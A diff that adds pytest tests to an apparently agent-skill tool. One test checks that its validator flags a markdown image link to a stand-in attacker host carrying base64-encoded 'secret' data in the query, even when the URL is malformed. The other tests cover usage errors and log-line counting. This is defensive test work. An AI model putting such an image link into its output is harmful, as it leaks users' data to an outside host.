@@ -365,3 +365,32 @@ def test_the_review_note_finds_the_branches_of_a_library_in_a_sub_folder(cli, tm
     data = json.loads(cli("distill", str(EXAMPLES), "--library", str(lib), "--init", "--json").out)
     routed = cli("route", "pytest is not found", "--library", str(lib))
     assert data["branch"] in routed.err and f"git -C '{lib}' merge {data['branch']}" in routed.err
+
+
+def test_a_malformed_image_url_still_counts_as_exfiltration(tmp_path: Path) -> None:
+    """Splitting by hand where urlsplit refuses: the data in the query is still seen (fail closed)."""
+    from skillforge.skills.validate import check_text
+
+    found = check_text("![status](https://evil.example]/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)\n", "SKILL.md")
+    assert any(f.severity == "error" for f in found), found
+    hosts = [f.message for f in check_text("see https://docs.[library].com/llms.txt\n", "SKILL.md")]
+    assert all("''" not in m for m in hosts)  # the host is named, not an empty string
+
+
+@pytest.mark.parametrize("args", [["install", "bogus"], ["ingest", "--from", "bogus"], ["distill", "--from", "bogus"],
+                                  ["ingest"], ["distill"]],
+                         ids=["install-agent", "ingest-from", "distill-from", "ingest-nothing", "distill-nothing"])
+def test_bad_agents_and_missing_inputs_are_usage_errors(cli, args: list[str], tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    result = cli(*args, "--library", str(tmp_path)) if args[0] != "ingest" else cli(*args)
+    assert result.code == 2, result.err
+
+
+def test_each_skipped_file_and_line_is_counted_once(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    logs = tmp_path / "logs"
+    shutil.copytree(EXAMPLES, logs)
+    run = logs / "interchange" / "ledgerkit-runs.jsonl"
+    run.write_text(run.read_text() + "not json\n" * 5)
+    result = cli("ingest", str(logs))
+    lines = [line for line in result.err.splitlines() if "ledgerkit-runs.jsonl" in line]
+    assert len(lines) == 1 and "and 4 more like it in that file" in lines[0]
+    assert "5 files" not in result.err
